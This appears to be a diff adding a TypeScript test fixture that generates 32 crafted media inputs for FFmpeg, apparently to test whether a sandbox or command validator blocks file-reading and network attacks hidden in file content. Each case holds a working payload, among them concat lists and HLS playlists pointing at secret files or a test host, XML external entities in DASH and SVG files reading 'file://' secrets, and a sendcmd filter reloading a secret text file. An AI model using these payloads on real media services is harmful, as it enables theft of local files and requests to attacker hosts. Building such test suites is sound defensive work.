@@ -1,0 +1,181 @@
+import type { AttackTargets } from '../../common/command-line/attack-commands.fixture.ts'
+import { words } from './attacks.ts'
+import type { Attack } from './attacks.ts'
+
+/**
+ * Files that make FFmpeg open others: no parser of command lines can see them.
+ * @param secretSound WAV outside, whose samples are the canary
+ */
+export function attacksByContent({ secret, host }: AttackTargets, secretSound: string): Attack[] {
+  const relative = `../..${secretSound}`
+  const list = (file: string, ...options: string[]): string =>
+    ['ffconcat version 1.0', `file '${file}'`, ...options.map((each) => `option ${each}`), ''].join(
+      '\n',
+    )
+  const anyProtocol = 'protocol_whitelist file,http,tcp,subfile,concat,crypto,data,async'
+  const byList = (name: string, content: string): Attack =>
+    attack(name, '-f concat -safe 0 -i X -map 0 -c copy -f data o.bin', 'list.txt', content)
+  const hls = (...lines: string[]): string =>
+    ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:9', ...lines, '#EXT-X-ENDLIST', ''].join(
+      '\n',
+    )
+  const byPlaylist = (name: string, ...lines: string[]): Attack =>
+    attack(name, playlist, 'list.m3u8', hls(...lines))
+  return [
+    byList('C01 absolute member', list(secretSound)),
+    byList('C02 member by protocol', list(`file:${secretSound}`, anyProtocol)),
+    byList('C03 member above', list(relative)),
+    byList(
+      'C04 member of a member',
+      list(`subfile,,start,0,end,4000,,:${secretSound}`, anyProtocol),
+    ),
+    byList('C05 joined member', list(`concat:${secretSound}`, anyProtocol)),
+    byList('C06 member on the network', list(`http://${host}/a.wav`, anyProtocol)),
+    byList(
+      'C07 second member on the network',
+      `${list('in.mp4')}file 'http://${host}/b.mp4'\noption ${anyProtocol}\n`,
+    ),
+    attack(
+      'C08 list under a video name',
+      '-safe 0 -i X -map 0 -c copy -f data o.bin',
+      'list.mp4',
+      list(secretSound),
+    ),
+    attack(
+      'C09 list by a filter',
+      '-f lavfi -i amovie=X:f=concat:format_opts=safe=0 -f u8 o.bin',
+      'list.txt',
+      list(secretSound),
+    ),
+    byPlaylist('C10 segment by protocol', '#EXTINF:9,', `file://${secretSound}`),
+    byPlaylist('C11 segment by absolute path', '#EXTINF:9,', secretSound),
+    byPlaylist('C12 segment above', '#EXTINF:9,', relative),
+    byPlaylist('C13 segment on the network', '#EXTINF:9,', `http://${host}/a.ts`),
+    byPlaylist('C14 segment behind a cipher', '#EXTINF:9,', `crypto+http://${host}/a.ts`),
+    byPlaylist(
+      'C15 key on the network',
+      `#EXT-X-KEY:METHOD=AES-128,URI="http://${host}/k"`,
+      '#EXTINF:9,',
+      'in.ts',
+    ),
+    byPlaylist(
+      'C16 key of a file',
+      `#EXT-X-KEY:METHOD=AES-128,URI="file://${secret}"`,
+      '#EXTINF:9,',
+      'in.ts',
+    ),
+    byPlaylist(
+      'C17 initialisation on the network',
+      `#EXT-X-MAP:URI="http://${host}/i"`,
+      '#EXTINF:9,',
+      'in.ts',
+    ),
+    attack(
+      'C18 variant on the network',
+      playlist,
+      'list.m3u8',
+      `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://${host}/v.m3u8\n`,
+    ),
+    attack(
+      'C19 sound track on the network',
+      playlist,
+      'list.m3u8',
+      `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,URI="http://${host}/a.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\nin.m3u8\n`,
+    ),
+    attack(
+      'C20 playlist under a video name',
+      playlist,
+      'list.mp4',
+      hls('#EXTINF:9,', `http://${host}/a.ts`),
+    ),
+    attack(
+      'C21 playlist with its own white list',
+      `-protocol_whitelist file,http,tcp,crypto ${playlist}`,
+      'list.m3u8',
+      hls('#EXTINF:9,', `http://${host}/a.ts`),
+    ),
+    attack(
+      'C22 playlist by a filter',
+      "-f lavfi -i 'movie=X:format_opts=protocol_whitelist=file\\\\,http\\\\,tcp' -frames:v 1 -f rawvideo o.bin",
+      'list.m3u8',
+      hls('#EXTINF:9,', `http://${host}/a.ts`),
+    ),
+    attack(
+      'C23 manifest with a base on the network',
+      '-protocol_whitelist file,http,tcp -i X -map 0 -c copy -f data o.bin',
+      'list.mpd',
+      dash(`http://${host}/`, 'a.mp4'),
+    ),
+    attack(
+      'C24 manifest with a base of files',
+      '-i X -map 0 -c copy -f data o.bin',
+      'list.mpd',
+      dash('file:///app/', 'secret.wav'),
+    ),
+    attack(
+      'C25 manifest with an entity',
+      '-i X -map 0 -c copy -f data o.bin',
+      'list.mpd',
+      `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}">]>${dash('', '&e;')}`,
+    ),
+    attack(
+      'C26 manifest with a definition on the network',
+      '-i X -map 0 -c copy -f data o.bin',
+      'list.mpd',
+      `<!DOCTYPE x SYSTEM "http://${host}/x.dtd">${dash('', 'a.mp4')}`,
+    ),
+    attack(
+      'C27 drawing with a picture',
+      '-i X -frames:v 1 -f rawvideo o.bin',
+      'a.svg',
+      svg(`<image xlink:href="http://${host}/a.png" width="9" height="9"/>`),
+    ),
+    attack(
+      'C28 drawing with a text of a file',
+      '-i X -frames:v 1 -f rawvideo o.bin',
+      'a.svg',
+      `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}">]>${svg('<text y="9">&e;</text>')}`,
+    ),
+    attack(
+      'C29 session on the network',
+      '-i X -f null -',
+      'a.sdp',
+      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${host.split(':')[1]} RTP/AVP 0\n`,
+    ),
+    attack(
+      'C30 composition on the network',
+      '-protocol_whitelist file,http,tcp -f imf -assetmaps X -i cpl.xml -f null -',
+      'map.xml',
+      `<AssetMap><AssetList><Asset><Id>urn:uuid:00000000-0000-0000-0000-000000000000</Id><ChunkList><Chunk><Path>http://${host}/a.mxf</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>`,
+    ),
+    attack(
+      'C31 commands to a filter',
+      `-i in.mp4 -vf sendcmd=f=X,drawtext=textfile=empty.txt:fontfile=${font} -frames:v 1 -f md5 o.md5`,
+      'commands.txt',
+      `0.0 drawtext reinit textfile=${secret};\n`,
+    ),
+    attack(
+      'C32 subtitles that are a list',
+      '-i in.mp4 -vf subtitles=X -f null -',
+      'a.srt',
+      list(`http://${host}/s.srt`, anyProtocol),
+    ),
+  ]
+}
+
+const font = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf'
+const playlist =
+  '-allowed_extensions ALL -allowed_segment_extensions ALL -extension_picky 0 -i X -map 0 -c copy -f data o.bin'
+
+function attack(name: string, command: string, file: string, content: string): Attack {
+  const written = command.replace('X', file)
+  return { name, command: written, argv: words(written), files: { [file]: content } }
+}
+
+function dash(base: string, media: string): string {
+  return `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="0" bandwidth="1"><BaseURL>${base}${media}</BaseURL><SegmentList duration="3"><SegmentURL media="${media}"/></SegmentList></Representation></AdaptationSet></Period></MPD>`
+}
+
+function svg(content: string): string {
+  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">${content}</svg>`
+}
